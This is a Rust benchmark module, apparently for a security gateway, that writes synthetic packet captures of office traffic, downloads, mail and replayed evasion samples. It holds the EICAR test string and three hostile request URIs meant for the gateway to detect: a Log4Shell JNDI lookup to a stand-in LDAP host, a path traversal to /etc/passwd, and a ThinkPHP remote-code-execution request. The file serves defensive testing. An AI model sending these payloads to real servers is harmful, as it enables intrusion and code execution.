//! The captures the benches compare on, one per kind of traffic, each
//! written as it is generated (memory holds one conversation, not the
//! capture), deterministic for a given size:
//!
//! - `office`: office days. Each day is the twin's small-packet day (the
//!   frames `benches/pipeline.rs` replays, when handed in) with, spread over
//!   the working hours: DNS lookups, TLS sessions (ClientHello with SNI, the
//!   server's certificate flight, opaque records), HTTP downloads of 2 KB to
//!   30 MB (Content-Length or chunked, some gzip), mail with attachments
//!   over SMTP, and the threats of the scenarios the default gateway knows
//!   (an EICAR download, an EICAR attachment, exploit requests its IPS
//!   rules drop);
//! - `downloads-1m`: 1 MB downloads (Content-Length) in 1 KB frames;
//! - `mail`: SMTP mails with base64 attachments of 10 KB to 3 MB;
//! - `evasion`: the shared corpus's real captures (suricata-verify, HTTP
//!   Evader among them) back to back, repeated a day apart, checksums made
//!   valid so no engine drops their offloaded frames.

use super::{Conv, Pcap, Rng, dns};
use std::io::{self, Write};
use std::net::Ipv4Addr;
use std::path::Path;

/// 2017-09-26 00:00 UTC (09:00 in Japan), the bench office's first day.
pub const DAY0_US: i64 = 1_506_384_000_000_000;
pub const DAY_US: i64 = 86_400_000_000;

/// The 68-byte EICAR test file (eicar.org), a test file, not malware.
pub const EICAR: &[u8] = b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*";

/// Bodies cut from one block of CSV-like text (it compresses like real
/// exports) or of pseudo-random bytes (it does not).
pub struct Material {
    text: Vec<u8>,
    noise: Vec<u8>,
}

impl Material {
    pub fn new() -> Material {
        let mut rng = Rng(0x9E37_79B9_7F4A_7C15);
        let mut text = Vec::with_capacity(4 << 20);
        while text.len() < 4 << 20 {
            let x = rng.next();
            let line = format!(
                "2017-09-26 10:{:02}:{:02},192.168.1.{},order-{},{},{}\r\n",
                x % 60,
                (x >> 8) % 60,
                (x >> 16) % 254 + 1,
                (x >> 24) % 100_000,
                (x >> 40) % 9_999,
                ["OK", "NG", "HOLD"][((x >> 50) % 3) as usize]
            );
            text.extend_from_slice(line.as_bytes());
        }
        let noise = (0..1 << 20).map(|_| (rng.next() >> 13) as u8).collect();
        Material { text, noise }
    }

    /// `len` bytes of text (or noise), starting at a place `rng` picks.
    pub fn body(&self, rng: &mut Rng, len: usize, noise: bool) -> Vec<u8> {
        let src = if noise { &self.noise } else { &self.text };
        let mut out = Vec::with_capacity(len);
        let mut at = rng.below(src.len() as u64) as usize;
        while out.len() < len {
            let n = (src.len() - at).min(len - out.len());
            out.extend_from_slice(&src[at..at + n]);
            at = 0;
        }
        out
    }
}

impl Default for Material {
    fn default() -> Self {
        Material::new()
    }
}

/// How a download's body is framed and coded.
#[derive(Clone, Copy, Debug)]
pub struct Framing {
    pub chunked: bool,
    pub gzip: bool,
}

/// `data` in chunks of 4000 to 12000 bytes, as servers' buffers vary.
pub fn chunked(data: &[u8], rng: &mut Rng) -> Vec<u8> {
    let mut out = Vec::with_capacity(data.len() + data.len() / 500 + 16);
    let mut rest = data;
    while !rest.is_empty() {
        let n = (4000 + rng.below(8000) as usize).min(rest.len());
        out.extend_from_slice(format!("{n:x}\r\n").as_bytes());
        out.extend_from_slice(&rest[..n]);
        out.extend_from_slice(b"\r\n");
        rest = &rest[n..];
    }
    out.extend_from_slice(b"0\r\n\r\n");
    out
}

fn gzip(data: &[u8]) -> Vec<u8> {
    let mut e = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::fast());
    let _ = e.write_all(data);
    e.finish().unwrap_or_default()
}

/// One HTTP download over its own connection: request, response, close.
#[allow(clippy::too_many_arguments)]
pub fn http_download<W: Write>(
    pcap: &mut Pcap<W>,
    conv: &mut Conv,
    host: &str,
    path: &str,
    body: &[u8],
    framing: Framing,
    rng: &mut Rng,
) -> io::Result<()> {
    conv.open(pcap)?;
    let request = format!(
        "GET {path} HTTP/1.1\r\nHost: {host}\r\nUser-Agent: Mozilla/5.0 (Windows NT 10.0; Win64; x64)\r\n\
Accept: */*\r\nAccept-Encoding: gzip, deflate\r\nConnection: close\r\n\r\n"
    );
    conv.send(pcap, true, request.as_bytes())?;
    let coded = if framing.gzip {
        gzip(body)
    } else {
        body.to_vec()
    };
    let mut head = String::from(
        "HTTP/1.1 200 OK\r\nServer: nginx\r\nContent-Type: application/octet-stream\r\n",
    );
    if framing.gzip {
        head.push_str("Content-Encoding: gzip\r\n");
    }
    let mut response;
    if framing.chunked {
        head.push_str("Transfer-Encoding: chunked\r\n\r\n");
        response = head.into_bytes();
        response.extend_from_slice(&chunked(&coded, rng));
    } else {
        head.push_str(&format!("Content-Length: {}\r\n\r\n", coded.len()));
        response = head.into_bytes();
        response.extend_from_slice(&coded);
    }
    conv.send(pcap, false, &response)?;
    conv.close(pcap)
}

/// Standard base64 with 76-character lines, as mail agents write it.
pub fn base64(data: &[u8]) -> Vec<u8> {
    const A: &[u8; 64] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    let mut out = Vec::with_capacity(data.len() * 4 / 3 + data.len() / 38 + 4);
    for (i, c) in data.chunks(3).enumerate() {
        if i > 0 && i % 19 == 0 {
            out.extend_from_slice(b"\r\n");
        }
        let b = [c[0], *c.get(1).unwrap_or(&0), *c.get(2).unwrap_or(&0)];
        let n = u32::from(b[0]) << 16 | u32::from(b[1]) << 8 | u32::from(b[2]);
        out.push(A[(n >> 18) as usize & 63]);
        out.push(A[(n >> 12) as usize & 63]);
        out.push(if c.len() > 1 {
            A[(n >> 6) as usize & 63]
        } else {
            b'='
        });
        out.push(if c.len() > 2 {
            A[n as usize & 63]
        } else {
            b'='
        });
    }
    out
}

/// A mail with one attachment, as the PC's mail client sends it.
pub fn mail(from: &str, to: &str, subject: &str, name: &str, attachment: &[u8]) -> Vec<u8> {
    let mut m = format!(
        "From: {from}\r\nTo: {to}\r\nSubject: {subject}\r\nDate: Tue, 26 Sep 2017 10:00:00 +0900\r\n\
MIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=\"=_b0undary\"\r\n\r\n\
--=_b0undary\r\nContent-Type: text/plain; charset=utf-8\r\n\r\nPlease find the file attached.\r\n\r\n\
--=_b0undary\r\nContent-Type: application/octet-stream; name=\"{name}\"\r\n\
Content-Disposition: attachment; filename=\"{name}\"\r\nContent-Transfer-Encoding: base64\r\n\r\n"
    )
    .into_bytes();
    m.extend_from_slice(&base64(attachment));
    m.extend_from_slice(b"\r\n--=_b0undary--\r\n");
    m
}

/// One SMTP conversation delivering `message` (no line of which starts
/// with a dot), then QUIT.
pub fn smtp<W: Write>(pcap: &mut Pcap<W>, conv: &mut Conv, message: &[u8]) -> io::Result<()> {
    conv.open(pcap)?;
    let steps: [(bool, &[u8]); 12] = [
        (false, b"220 mx.example.com ESMTP\r\n"),
        (true, b"EHLO pc\r\n"),
        (false, b"250-mx.example.com\r\n250 8BITMIME\r\n"),
        (true, b"MAIL FROM:<sato@office.example.jp>\r\n"),
        (false, b"250 2.1.0 Ok\r\n"),
        (true, b"RCPT TO:<tanaka@client.example.com>\r\n"),
        (false, b"250 2.1.5 Ok\r\n"),
        (true, b"DATA\r\n"),
        (false, b"354 End data with <CR><LF>.<CR><LF>\r\n"),
        (true, message),
        (true, b"\r\n.\r\n"),
        (false, b"250 2.0.0 Ok: queued\r\n"),
    ];
    for (from_client, data) in steps {
        conv.send(pcap, from_client, data)?;
    }
    conv.send(pcap, true, b"QUIT\r\n")?;
    conv.send(pcap, false, b"221 2.0.0 Bye\r\n")?;
    conv.close(pcap)
}

/// A TLS session: the ClientHello naming `sni`, the server's first flight
/// with its certificate, then `app_bytes` of opaque records each way.
pub fn tls<W: Write>(
    pcap: &mut Pcap<W>,
    conv: &mut Conv,
    sni: &str,
    cert: &twin::tls::SiteCertificate,
    app_bytes: usize,
    material: &Material,
    rng: &mut Rng,
) -> io::Result<()> {
    conv.open(pcap)?;
    let mut random = [0u8; 32];
    random.iter_mut().for_each(|b| *b = rng.next() as u8);
    conv.send(pcap, true, &twin::tls::client_hello(&random, sni))?;
    conv.send(
        pcap,
        false,
        &twin::tls::server_flight(cert, &random, &[7; 32], &[9; 32]),
    )?;
    let request = material.body(rng, 400, true);
    conv.send(
        pcap,
        true,
        &twin::tls::client_finish(&[3; 32], &[5; 40], &request),
    )?;
    let page = material.body(rng, app_bytes, true);
    conv.send(pcap, false, &twin::tls::server_finish(&[6; 40], &page))?;
    conv.close(pcap)
}

/// Sites of the office day: (name, address).
const SITES: [(&str, [u8; 4]); 8] = [
    ("www.example.com", [198, 51, 100, 10]),
    ("mail.example.net", [198, 51, 100, 11]),
    ("cdn.example.org", [198, 51, 100, 12]),
    ("news.example.jp", [198, 51, 100, 13]),
    ("office.example.com", [203, 0, 113, 14]),
    ("files.example.net", [203, 0, 113, 15]),
    ("search.example.org", [203, 0, 113, 16]),
    ("bank.example.jp", [203, 0, 113, 17]),
];

/// What happens at one moment of the office day.
#[derive(Clone, Copy)]
enum Item {
    Dns,
    Tls,
    Download,
    Mail,
    Eicar,
    EicarMail,
    Exploit(u8),
}

/// One generated office day (no twin frames), written from `day_start`;
/// `twin_day` frames (µs, frame) are interleaved by time.
pub fn office_day<W: Write>(
    pcap: &mut Pcap<W>,
    day_start: i64,
    twin_day: &mut dyn Iterator<Item = (i64, Vec<u8>)>,
    material: &Material,
    certs: &[twin::tls::SiteCertificate],
    rng: &mut Rng,
) -> io::Result<()> {
    let mut plan: Vec<(i64, Item)> = Vec::new();
    let hours = 9 * 3_600_000_000i64;
    let mut add = |n: usize, item: Item, rng: &mut Rng| {
        for _ in 0..n {
            plan.push((day_start + rng.below(hours as u64) as i64, item));
        }
    };
    add(400, Item::Dns, rng);
    add(300, Item::Tls, rng);
    add(80, Item::Download, rng);
    add(30, Item::Mail, rng);
    add(1, Item::Eicar, rng);
    add(1, Item::EicarMail, rng);
    for e in 0..3 {
        add(1, Item::Exploit(e), rng);
    }
    plan.sort_by_key(|(t, _)| *t);
    let mut pending = twin_day.next();
    for (n, (at, item)) in plan.into_iter().enumerate() {
        while let Some((t, f)) = pending.as_ref().filter(|(t, _)| *t <= at) {
            pcap.frame(*t, f)?;
            pending = twin_day.next();
        }
        let site = SITES[rng.below(SITES.len() as u64) as usize];
        let host = 20 + rng.below(25) as u8;
        let sport = 49_152 + (n as u16 % 16_000);
        let ip = Ipv4Addr::from(site.1);
        let seed = n as u32 ^ (day_start / DAY_US) as u32;
        match item {
            Item::Dns => dns(pcap, host, site.0, ip, n as u16, at)?,
            Item::Tls => {
                let mut c = Conv::new(host, sport, ip, 443, at, seed);
                let i = SITES.iter().position(|s| s.0 == site.0).unwrap_or(0);
                let bytes = rng.log_between(5_000, 300_000) as usize;
                tls(
                    pcap,
                    &mut c,
                    site.0,
                    &certs[i % certs.len()],
                    bytes,
                    material,
                    rng,
                )?;
            }
            Item::Download => {
                let size = rng.log_between(2_000, 30_000_000) as usize;
                let kind = rng.below(10);
                let framing = Framing {
                    chunked: kind < 4,
                    gzip: (2..5).contains(&kind),
                };
                let noise = kind == 9;
                let name = if noise { "photo.jpg" } else { "export.csv" };
                let body = material.body(rng, size, noise);
                let mut c = Conv::new(host, sport, ip, 80, at, seed);
                let path = format!("/files/{n}/{name}");
                http_download(pcap, &mut c, site.0, &path, &body, framing, rng)?;
            }
            Item::Eicar => {
                let mut c = Conv::new(host, sport, ip, 80, at, seed);
                let framing = Framing {
                    chunked: false,
                    gzip: false,
                };
                http_download(pcap, &mut c, site.0, "/dl/eicar.com", EICAR, framing, rng)?;
            }
            Item::Mail | Item::EicarMail => {
                let attachment = if matches!(item, Item::EicarMail) {
                    EICAR.to_vec()
                } else {
                    let size = rng.log_between(10_000, 3_000_000) as usize;
                    let noise = rng.below(3) == 0;
                    material.body(rng, size, noise)
                };
                let m = mail(
                    "sato@office.example.jp",
                    "tanaka@client.example.com",
                    "monthly report",
                    "report.dat",
                    &attachment,
                );
                let mut c = Conv::new(host, sport, Ipv4Addr::new(198, 51, 100, 25), 25, at, seed);
                smtp(pcap, &mut c, &m)?;
            }
            Item::Exploit(e) => {
                let uri = match e {
                    0 => "/?x=${jndi:ldap://203.0.113.66/a}",
                    1 => "/cgi-bin/../../../../etc/passwd",
                    _ => {
                        "/index.php?s=/Index/think/app/invokefunction&function=call_user_func_array"
                    }
                };
                let mut c = Conv::new(host, sport, ip, 80, at, seed);
                c.open(pcap)?;
                let req = format!("GET {uri} HTTP/1.1\r\nHost: {}\r\n\r\n", site.0);
                c.send(pcap, true, req.as_bytes())?;
                c.send(
                    pcap,
                    false,
                    b"HTTP/1.1 404 Not Found\r\nContent-Length: 0\r\n\r\n",
                )?;
                c.close(pcap)?;
            }
        }
    }
    while let Some((t, f)) = pending {
        pcap.frame(t, &f)?;
        pending = twin_day.next();
    }
    Ok(())
}

/// The certificates of the office day's sites, valid for years around it.
pub fn site_certs() -> Vec<twin::tls::SiteCertificate> {
    let from = appliance::Instant::from_micros(DAY0_US - 400 * DAY_US);
    let to = appliance::Instant::from_micros(DAY0_US + 800 * DAY_US);
    SITES
        .iter()
        .filter_map(|(name, _)| twin::tls::SiteCertificate::new(name, from, to).ok())
        .collect()
}

/// `count` downloads of `size` bytes (Content-Length), in `mss`-byte frames.
pub fn downloads<W: Write>(
    pcap: &mut Pcap<W>,
    count: usize,
    size: usize,
    mss: usize,
    material: &Material,
) -> io::Result<()> {
    let mut rng = Rng(42);
    let framing = Framing {
        chunked: false,
        gzip: false,
    };
    for n in 0..count {
        let host = 20 + (n % 25) as u8;
        let at = DAY0_US + n as i64 * 2_000_000;
        let mut c = Conv::new(
            host,
            49_152 + (n % 16_000) as u16,
            Ipv4Addr::new(203, 0, 113, 15),
            80,
            at,
            n as u32,
        );
        c.mss = mss;
        let body = material.body(&mut rng, size, false);
        http_download(
            pcap,
            &mut c,
            "files.example.net",
            "/files/export.csv",
            &body,
            framing,
            &mut rng,
        )?;
    }
    Ok(())
}

/// Mails with attachments of 10 KB to 3 MB (one in a hundred EICAR) until
/// `bytes` of frames are written.
pub fn mails<W: Write>(pcap: &mut Pcap<W>, bytes: u64, material: &Material) -> io::Result<()> {
    let mut rng = Rng(7);
    let mut n = 0usize;
    while pcap.bytes < bytes {
        let attachment = if n % 100 == 99 {
            EICAR.to_vec()
        } else {
            let size = rng.log_between(10_000, 3_000_000) as usize;
            material.body(&mut rng, size, n.is_multiple_of(3))
        };
        let m = mail(
            "sato@office.example.jp",
            "tanaka@client.example.com",
            "monthly report",
            "report.dat",
            &attachment,
        );
        let at = DAY0_US + n as i64 * 5_000_000;
        let host = 20 + (n % 25) as u8;
        let mut c = Conv::new(
            host,
            49_152 + (n % 16_000) as u16,
            Ipv4Addr::new(198, 51, 100, 25),
            25,
            at,
            n as u32,
        );
        smtp(pcap, &mut c, &m)?;
        n += 1;
    }
    Ok(())
}

/// The Ethernet captures under `corpus` (recursively), sorted by path.
pub fn corpus_captures(corpus: &Path) -> Vec<std::path::PathBuf> {
    let mut found = Vec::new();
    let mut dirs = vec![corpus.to_path_buf()];
    while let Some(d) = dirs.pop() {
        let Ok(entries) = std::fs::read_dir(&d) else {
            continue;
        };
        for e in entries.flatten() {
            let p = e.path();
            if p.is_dir() {
                dirs.push(p);
            } else if p.extension().is_some_and(|x| x == "pcap") {
                found.push(p);
            }
        }
    }
    found.sort();
    found
}

/// The frames (µs, frame) of one Ethernet pcap; `None` for another link
/// type or an unreadable file.
pub fn read_ethernet(path: &Path) -> Option<Vec<(i64, Vec<u8>)>> {
    use pcap_file::pcap::PcapReader;
    let file = std::fs::File::open(path).ok()?;
    let mut reader = PcapReader::new(std::io::BufReader::new(file)).ok()?;
    if reader.header().datalink != pcap_file::DataLink::ETHERNET {
        return None;
    }
    let mut frames = Vec::new();
    while let Some(Ok(p)) = reader.next_packet() {
        let us = i64::try_from(p.timestamp.as_micros()).unwrap_or(0);
        let data = p.data.into_owned();
        let fixed = appliance::wire::checksum::fix_checksums(&data).unwrap_or(data);
        frames.push((us, fixed));
    }
    Some(frames)
}

/// The corpus's captures back to back, each repetition a day after the
/// last (its flows long expired), until `bytes` are written.
pub fn evasion<W: Write>(pcap: &mut Pcap<W>, corpus: &Path, bytes: u64) -> io::Result<usize> {
    let captures: Vec<Vec<(i64, Vec<u8>)>> = corpus_captures(corpus)
        .iter()
        .filter_map(|p| read_ethernet(p))
        .filter(|f| !f.is_empty())
        .collect();
    if captures.iter().all(Vec::is_empty) {
        return Ok(0);
    }
    let mut round = 0i64;
    while pcap.bytes < bytes {
        let mut base = DAY0_US + round * DAY_US;
        for frames in &captures {
            let first = frames.first().map_or(0, |f| f.0);
            for (t, f) in frames {
                pcap.frame(base + (t - first), f)?;
            }
            // Ten minutes apart: the last capture's flows have expired.
            base = pcap.now() + 600_000_000;
        }
        round += 1;
    }
    Ok(captures.len())
}
